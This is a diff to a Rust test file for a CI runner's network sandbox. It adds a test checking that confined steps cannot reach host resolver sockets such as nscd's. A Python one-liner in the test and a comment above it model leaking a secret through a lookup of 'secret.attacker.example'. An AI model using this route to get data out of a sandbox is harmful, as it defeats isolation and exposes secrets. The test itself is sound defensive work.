@@ -111,6 +111,15 @@ async fn http_server(name: &'static str) -> u16 {
 
 /// Runs `script` with bash, in `network`'s namespace when given; its stdout and stderr.
 async fn run(script: &str, network: Option<&StepNetwork>) -> String {
+    run_as(script, network, None).await
+}
+
+/// [`run`] as `user` (with its private mounts, as a root runner runs a step) when given.
+async fn run_as(
+    script: &str,
+    network: Option<&StepNetwork>,
+    user: Option<crate::step_user::StepUser>,
+) -> String {
     let mut env = BTreeMap::from([("PATH".to_owned(), "/usr/bin:/bin".to_owned())]);
     if let Some(network) = network {
         network.set_env(&mut env);
@@ -120,7 +129,7 @@ async fn run(script: &str, network: Option<&StepNetwork>) -> String {
         args: vec!["-c".into(), script.into()],
         cwd: std::env::temp_dir(),
         env,
-        user: None,
+        user,
         timeout: Duration::from_secs(60),
         masker: Default::default(),
         fresh_interpreter: false,
@@ -391,4 +400,85 @@ async fn a_python_step_in_a_namespace_never_runs_warm() {
     tokio::time::sleep(Duration::from_millis(200)).await;
     assert!(text.contains("refused:"), "{text}");
     assert!(!listener.heard(), "{text}");
+}
+
+/// Removes the test's socket, and the directory when the test made it, however it ends.
+struct Planted {
+    socket: std::path::PathBuf,
+    made_dir: Option<&'static std::path::Path>,
+}
+
+impl Drop for Planted {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_file(&self.socket);
+        if let Some(dir) = self.made_dir {
+            let _ = std::fs::remove_dir(dir);
+        }
+    }
+}
+
+/// A Unix socket bound to a path leads to its daemon in the host's namespace whatever
+/// namespace the client is in: through nscd's, systemd-resolved's or the system bus's, a
+/// step without network would have the host look up `<secret>.attacker.example`. A
+/// listener of the test's in `/run/nscd` stands for nscd: no confined step (run as a step
+/// user, as a root runner runs it) reaches it, while the same step on the host's network
+/// does — that is what fails without the hiding.
+#[tokio::test]
+async fn a_confined_step_cannot_ask_the_hosts_resolvers_through_their_sockets() {
+    use std::os::unix::fs::PermissionsExt;
+    if !root() {
+        return;
+    }
+    let dir = std::path::Path::new("/run/nscd");
+    let made_dir = (!dir.exists()).then(|| {
+        std::fs::create_dir_all(dir).unwrap();
+        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
+        dir
+    });
+    let planted = Planted {
+        socket: dir.join(format!("plue-attack-{}.sock", std::process::id())),
+        made_dir,
+    };
+    let _ = std::fs::remove_file(&planted.socket);
+    let listener = tokio::net::UnixListener::bind(&planted.socket).unwrap();
+    std::fs::set_permissions(&planted.socket, std::fs::Permissions::from_mode(0o777)).unwrap();
+    let heard = Arc::new(Mutex::new(0usize));
+    let count = heard.clone();
+    tokio::spawn(async move {
+        while let Ok((mut stream, _)) = listener.accept().await {
+            *count.lock().unwrap() += 1;
+            tokio::spawn(async move {
+                let mut sink = Vec::new();
+                let _ = stream.read_to_end(&mut sink).await;
+            });
+        }
+    });
+    let script = format!(
+        "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); \
+         s.connect(\"{}\"); s.sendall(b\"secret.attacker.example\"); print(\"sent\")' 2>&1 \
+         || echo refused",
+        planted.socket.display()
+    );
+    let user = crate::step_user::StepUser {
+        uid: 3_999_021,
+        gid: 3_999_021,
+    };
+    let (log, _keep) = mpsc::channel(16);
+    for policy in [
+        NetworkPolicy::None,
+        NetworkPolicy::Allow(vec!["127.0.0.1:1".into()]),
+    ] {
+        let confined = confine(&policy, &log).await.unwrap().unwrap();
+        let printed = run_as(&script, Some(&confined), Some(user)).await;
+        confined.finish().await;
+        assert!(printed.contains("refused"), "{policy:?}: {printed}");
+        assert!(!printed.contains("sent"), "{policy:?}: {printed}");
+    }
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    assert_eq!(*heard.lock().unwrap(), 0);
+
+    let printed = run_as(&script, None, Some(user)).await;
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    assert!(printed.contains("sent"), "{printed}");
+    assert_eq!(*heard.lock().unwrap(), 1, "{printed}");
 }
